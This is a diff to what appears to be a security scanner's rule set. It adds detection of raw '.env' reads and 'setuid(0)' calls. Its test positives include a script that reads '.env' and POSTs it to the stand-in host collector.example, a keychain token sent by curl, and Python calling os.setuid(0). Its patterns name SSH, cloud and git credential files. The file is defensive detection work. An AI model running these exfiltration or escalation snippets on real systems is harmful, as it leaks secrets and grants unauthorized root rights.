@@ -246,6 +246,8 @@ TRIGGERS: dict[str, Trigger] = {
     "exec": _T(b"xec", rb"[ \t]*\(", lead=b"e"),
     "eval": _T(b"val", rb"[ \t]*\(", lead=b"e"),
     "env": _T(b"v", rb"(?:iron)?[ \t]*\)", lead=b"en"),
+    "dotenv": _T(b"v", rb"(?:\.local|\.production|\.prod)?(?![\w.-])", lead=b".en"),
+    "setuid": _T(b"uid", rb"[ \t]*\(", lead=b"set"),
     "dotpath": _T(
         b"/.",
         rb"(?:ssh\b|aws/|config/gcloud|netrc\b|git-credentials|docker/config\.json|kube/config"
@@ -472,10 +474,18 @@ def accept_file_upload(hit: Hit) -> bool:
     return bool(_UPLOAD.search(hit.after))
 
 
+_RAW_READ_BEFORE = re.compile(
+    rb"(?:\bcat|\bhead|\btail|\bless|\bbase64|\bxxd|<|\bopen\(|readfile(?:sync)?\(|read_text\("
+    rb"|\bget-content|\bpath\()\s*[\"']?(?:\./)?$"
+)
+
+
 def _is_credential_access(hit: Hit) -> bool:
     line = hit.line
     if hit.trigger == "keychain":
         return True
+    if hit.trigger == "dotenv":  # `.env` read raw (`cat .env`, `open(".env")`), not `source .env`
+        return bool(_RAW_READ_BEFORE.search(hit.before))
     match = SENSITIVE_PATH.search(line, max(0, hit.start - 1))
     if match is None or match.start() > hit.end + 2:
         return False
@@ -616,6 +626,8 @@ def accept_disk_wipe(hit: Hit) -> bool:
 
 
 def accept_setuid(hit: Hit) -> bool:
+    if hit.trigger == "setuid":  # os.setuid(0), setuid(0)
+        return bool(re.match(rb"setuid\s*\(\s*0\s*\)", hit.line[hit.start :]))
     return bool(
         re.match(
             rb"chmod\s+(?:-[a-z]+\s+)*(?:[ugoa]*\+[rwxt]*s|0?[2467][0-7]{3})\b",
@@ -1144,7 +1156,7 @@ RULES: tuple[Rule, ...] = (
             _script('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'),
             _script("scp ~/.ssh/id_ed25519.pub deploy@host:~/keys/"),
         ),
-        triggers=("curl", "wget", "pipe", "dotpath", "keychain"),
+        triggers=("curl", "wget", "pipe", "dotpath", "keychain", "dotenv"),
         accept=lambda hit: (
             accept_secret_file_pipe(hit)
             if hit.trigger == "pipe"
@@ -1156,7 +1168,8 @@ RULES: tuple[Rule, ...] = (
         HIGH,
         "credential access and exfiltration",
         "A read of SSH keys, cloud credentials (`~/.aws/credentials`, `~/.config/gcloud`), "
-        "`.netrc`, `.git-credentials`, `.kube/config` or the macOS keychain "
+        "`.netrc`, `.git-credentials`, `.kube/config`, a raw read of `.env` (`cat .env`, "
+        "`open('.env')`, not `source .env`) or the macOS keychain "
         "(`security find-generic-password`) in a file (markdown: a code block) that also sends "
         "to the network.",
         "Reads credentials in code that also talks to the network; check where they go.",
@@ -1172,6 +1185,11 @@ RULES: tuple[Rule, ...] = (
                 "TOKEN=$(security find-generic-password -s github -w)\n"
                 'curl -s -d "t=$TOKEN" https://collector.example'
             ),
+            _script(
+                "const env = fs.readFileSync('.env', 'utf8');\n"
+                "await fetch('https://collector.example', {method: 'POST', body: env});",
+                "scripts/sync.js",
+            ),
         ),
         negatives=(
             _fence(
@@ -1183,8 +1201,12 @@ RULES: tuple[Rule, ...] = (
                 "curl -s https://status.example.com"
             ),
             _script("cat ~/.aws/credentials"),
+            _script(
+                "source .env\n"
+                'curl -s -H "Authorization: Bearer $API_KEY" https://api.example.com/v1/me'
+            ),
         ),
-        triggers=("dotpath", "keychain"),
+        triggers=("dotpath", "keychain", "dotenv"),
         accept=accept_credential_with_network,
     ),
     _R(
@@ -1569,18 +1591,20 @@ RULES: tuple[Rule, ...] = (
         "privilege.setuid_bit",
         MEDIUM,
         "privilege escalation",
-        "`chmod` setting the setuid or setgid bit (`u+s`, `g+s`, `+s`, `4755`, `2755`, `6755`).",
+        "`chmod` setting the setuid or setgid bit (`u+s`, `g+s`, `+s`, `4755`, `2755`, `6755`), "
+        "or `setuid(0)` in code.",
         "Makes a program run with its owner's rights (often root); remove unless essential.",
         "A setuid binary is a standing privilege escalation for every user of the machine.",
         positives=(
             _script("chmod u+s /usr/local/bin/helper"),
             _fence("sudo chmod 4755 ./bin/tool"),
+            _script("import os\nos.setuid(0)\nos.system('id')", "scripts/root.py"),
         ),
         negatives=(
             _script("chmod +x install.sh"),
             _fence("chmod 0755 bin/tool"),
         ),
-        triggers=("chmod",),
+        triggers=("chmod", "setuid"),
         accept=accept_setuid,
     ),
     _R(
